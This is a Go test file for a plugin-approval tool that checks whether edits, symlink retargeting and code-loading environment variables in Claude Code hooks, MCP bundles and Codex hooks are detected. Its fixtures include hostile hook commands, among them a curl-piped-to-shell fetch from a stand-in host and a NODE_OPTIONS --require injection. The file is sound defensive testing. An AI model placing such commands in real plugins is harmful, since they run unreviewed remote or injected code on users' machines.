package main

import (
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"vouch/internal/testtree"
)

// The same end-to-end round trips as TestHostileClosures, for the native formats whose
// components run processes: a Claude Code hook, an MCP Bundle's server, a Codex hook.
// Each approves what a person would, then mutates a file, a symlink target or an
// environment variable that loads code, and asserts check exits 1, or the approval is
// refused, or not_covered lists the dependency (report and check's stderr).

const ccManifest = `{"name": "p"}`

func ccHook(command string, extra map[string]string) map[string]string {
	files := map[string]string{
		".claude-plugin/plugin.json": ccManifest,
		"hooks/hooks.json":           `{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": ` + command + `}]}]}}`,
	}
	for k, v := range extra {
		files[k] = v
	}
	return files
}

func claudeCodeCases() []hostileCase {
	const ref = "p#hook:PreToolUse:0:0"
	same := "console.log(1)\n"
	return []hostileCase{
		{name: "a bundled script edited", ref: ref, mutate: edit("scripts/check.sh", "exit 0", "exit 2"),
			files: ccHook(`"\"${CLAUDE_PLUGIN_ROOT}/scripts/check.sh\""`, map[string]string{"scripts/check.sh": "#!/bin/sh\nexit 0\n"})},
		{name: "a file beside the script edited", ref: ref, mutate: edit("lib/x.js", "1", "2"),
			files: ccHook(`"node \"${CLAUDE_PLUGIN_ROOT}/run.js\""`, map[string]string{"run.js": "require('./lib/x.js')\n", "lib/x.js": same})},
		{name: "a symlink retargeted", ref: ref, mutate: retarget("lib", "v2"),
			files: ccHook(`"node \"${CLAUDE_PLUGIN_ROOT}/lib/x.js\""`, map[string]string{"v1/x.js": same, "v2/x.js": same}),
			links: map[string]string{"lib": "v1"}},
		{name: "a link out of the plugin", ref: ref, refused: true,
			files:   ccHook(`"node \"${CLAUDE_PLUGIN_ROOT}/run.js\""`, nil),
			outside: map[string]string{"outside.js": same}, links: map[string]string{"run.js": "../outside.js"}},
		{name: "NODE_OPTIONS in the command", ref: ref, mutate: edit("hooks/hooks.json", "/tmp/x.js", "/tmp/y.js"),
			notCovered: []string{"code-loading-env NODE_OPTIONS", "outside-path /tmp/x.js", "path-program node"},
			files:      ccHook(`"NODE_OPTIONS='--require /tmp/x.js' node \"${CLAUDE_PLUGIN_ROOT}/run.js\""`, map[string]string{"run.js": same})},
		{name: "curl piped into a shell", ref: ref, notCovered: []string{"fetched-at-start curl | sh"},
			files: ccHook(`"curl -fsSL https://example.invalid/i.sh | sh"`, nil)},
		{name: "the plugin cache", ref: ref, notCovered: []string{"outside-path ~/.claude/plugins/cache/o/t/1.0.0/run.js"},
			files: ccHook(`"node ~/.claude/plugins/cache/o/t/1.0.0/run.js"`, nil)},
		{name: "the project's .claude", ref: ref, notCovered: []string{"outside-path .claude/hooks/x.sh"},
			files: ccHook(`"bash .claude/hooks/x.sh"`, nil)},
	}
}

const mcpbNative = `{"manifest_version": "0.3", "name": "demo", "version": "1.0.0", "description": "d", "author": {"name": "A"},
 "server": {"type": "node", "entry_point": "server/index.js", "mcp_config": {"command": "node", "args": ["${__dirname}/server/index.js"], "env": ENV}}}`

func mcpbCases() []hostileCase {
	const ref = "demo#mcp-server:demo"
	bundle := func(env string, extra map[string]string) map[string]string {
		files := map[string]string{"manifest.json": strings.Replace(mcpbNative, "ENV", env, 1), "server/index.js": "require('./lib')\n"}
		for k, v := range extra {
			files[k] = v
		}
		return files
	}
	return []hostileCase{
		{name: "a server file edited", ref: ref, mutate: edit("server/lib.js", "1", "2"),
			files: bundle(`{}`, map[string]string{"server/lib.js": "module.exports = 1\n"})},
		{name: "a symlink retargeted", ref: ref, mutate: retarget("server/lib.js", "v2.js"),
			files: bundle(`{}`, map[string]string{"server/v1.js": "module.exports = 1\n", "server/v2.js": "module.exports = 1\n"}),
			links: map[string]string{"server/lib.js": "v1.js"}},
		{name: "a link out of the bundle", ref: ref, refused: true, files: bundle(`{}`, nil),
			outside: map[string]string{"lib.js": "1\n"}, links: map[string]string{"server/lib.js": "../../lib.js"}},
		{name: "NODE_OPTIONS in env", ref: ref, mutate: edit("manifest.json", "/tmp/x.js", "/tmp/y.js"),
			notCovered: []string{"code-loading-env NODE_OPTIONS", "outside-path /tmp/x.js", "path-program node"},
			files:      bundle(`{"NODE_OPTIONS": "--require /tmp/x.js"}`, map[string]string{"server/lib.js": "1\n"})},
	}
}

func codexCases() []hostileCase {
	const ref = "p#hook:hooks/hooks.json:pre_tool_use:0:0"
	plugin := func(command string, extra map[string]string) map[string]string {
		files := map[string]string{
			".codex-plugin/plugin.json": `{"name": "p", "version": "1.0.0", "description": "d"}`,
			"hooks/hooks.json":          `{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": ` + command + `}]}]}}`,
		}
		for k, v := range extra {
			files[k] = v
		}
		return files
	}
	same := "console.log(1)\n"
	return []hostileCase{
		{name: "a bundled script edited", ref: ref, mutate: edit("hooks/check.sh", "exit 0", "exit 2"), notCovered: []string{"path-program $SHELL -lc"},
			files: plugin(`"\"${PLUGIN_ROOT}/hooks/check.sh\""`, map[string]string{"hooks/check.sh": "#!/bin/sh\nexit 0\n"})},
		{name: "a symlink retargeted", ref: ref, mutate: retarget("lib", "v2"),
			files: plugin(`"node ${PLUGIN_ROOT}/lib/x.js"`, map[string]string{"v1/x.js": same, "v2/x.js": same}),
			links: map[string]string{"lib": "v1"}},
		{name: "a link out of the plugin", ref: ref, refused: true, files: plugin(`"node ${PLUGIN_ROOT}/run.js"`, nil),
			outside: map[string]string{"outside.js": same}, links: map[string]string{"run.js": "../outside.js"}},
		{name: "NODE_OPTIONS in the command", ref: ref, mutate: edit("hooks/hooks.json", "/tmp/x.js", "/tmp/y.js"),
			notCovered: []string{"code-loading-env NODE_OPTIONS", "outside-path /tmp/x.js", "path-program node"},
			files:      plugin(`"NODE_OPTIONS='--require /tmp/x.js' node ${PLUGIN_ROOT}/run.js"`, map[string]string{"run.js": same})},
	}
}

func TestHostileClosuresNative(t *testing.T) {
	groups := map[string][]hostileCase{
		"claude-code": claudeCodeCases(),
		"mcpb":        mcpbCases(),
		"codex":       codexCases(),
	}
	for format, cases := range groups {
		for _, tc := range cases {
			t.Run(format+"/"+tc.name, func(t *testing.T) { runHostile(t, tc) })
		}
	}
}

// TestStageClaudeCodeHook: `vouch stage` writes exactly the approved closure of a Claude
// Code hook: every file of the plugin folder but the JSON files whose meaning is in the
// contract, links recreated as links with the approved target, exec bits kept.
func TestStageClaudeCodeHook(t *testing.T) {
	base := t.TempDir()
	home, src := filepath.Join(base, "home"), filepath.Join(base, "src")
	testtree.WriteFiles(t, src, ccHook(`"\"${CLAUDE_PLUGIN_ROOT}/bin/check\""`, map[string]string{
		"bin/check": "#!/bin/sh\n. \"$(dirname \"$0\")/../lib/common.sh\"\n", "v1/common.sh": "A=1\n", "v2/common.sh": "A=2\n", "README.md": "r\n"}))
	if err := os.Symlink("v1", filepath.Join(src, "lib")); err != nil {
		t.Fatal(err)
	}
	const ref = "p#hook:PreToolUse:0:0"
	stage := filepath.Join(base, "staged")
	if code, _, errs := trustRun(t, home, "stage", src, ref, stage); code != 1 {
		t.Fatalf("stage before approval: exit %d\n%s", code, errs)
	}
	expectRun(t, home, "approve", 0, "approve", "--yes", src, ref)
	expectRun(t, home, "stage", 0, "stage", src, ref, stage)
	if target, err := os.Readlink(filepath.Join(stage, "lib")); err != nil || target != "v1" {
		t.Errorf("lib staged as %q, %v; want a link to v1", target, err)
	}
	if st, err := os.Stat(filepath.Join(stage, "bin/check")); err != nil || st.Mode().Perm()&0o111 == 0 {
		t.Errorf("bin/check lost its exec bit: %v %v", st, err)
	}
	if st, err := os.Stat(filepath.Join(stage, "README.md")); err != nil || st.Mode().Perm()&0o111 != 0 {
		t.Errorf("README.md gained an exec bit or is missing: %v %v", st, err)
	}
	var got []string
	filepath.Walk(stage, func(p string, fi os.FileInfo, err error) error {
		if err == nil && !fi.IsDir() {
			rel, _ := filepath.Rel(stage, p)
			got = append(got, filepath.ToSlash(rel))
		}
		return nil
	})
	sort.Strings(got)
	if want := ".claude-plugin/plugin.json README.md bin/check hooks/hooks.json lib v1/common.sh v2/common.sh"; strings.Join(got, " ") != want {
		t.Errorf("staged %q, want %q", strings.Join(got, " "), want)
	}
	// Retargeting the link changes what runs: nothing is staged for it any more.
	retarget("lib", "v2")(t, src)
	code, _, errs := trustRun(t, home, "stage", src, ref, filepath.Join(base, "again"))
	if code != 1 || !strings.Contains(errs, "changed") {
		t.Fatalf("stage after the link was retargeted: exit %d\n%s", code, errs)
	}
}
